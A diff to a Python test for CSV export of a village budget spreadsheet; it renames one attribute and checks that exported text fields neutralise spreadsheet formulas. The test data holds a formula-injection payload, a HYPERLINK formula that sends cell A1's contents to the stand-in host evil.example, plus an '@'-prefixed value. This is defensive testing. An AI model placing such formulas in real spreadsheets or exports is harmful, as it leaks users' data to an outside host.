@@ -66,7 +66,7 @@ def test_csv_neutralises_formulas_in_text_but_keeps_the_rows_exact(fixtures, ref
     b = read_budget(fixtures / "penjabaran.xlsx", reference=ref)
     leaf = next(ln for ln in b.lines if ln.is_leaf and ln.account == "5.3.5.01")
     leaf.description = '=HYPERLINK("http://evil.example/?"&A1,"Jalan")'
-    b.gampong_name = "@Kampung Baru"
+    b.gampong = "@Kampung Baru"
     row = next(r for r in budget_rows(b) if r["kode_rekening"] == "5.3.5.01")
     assert row["uraian"] == leaf.description and row["gampong"] == "@Kampung Baru"
     rows = list(csv.DictReader(io.StringIO(to_csv_bytes(b).decode("utf-8"))))
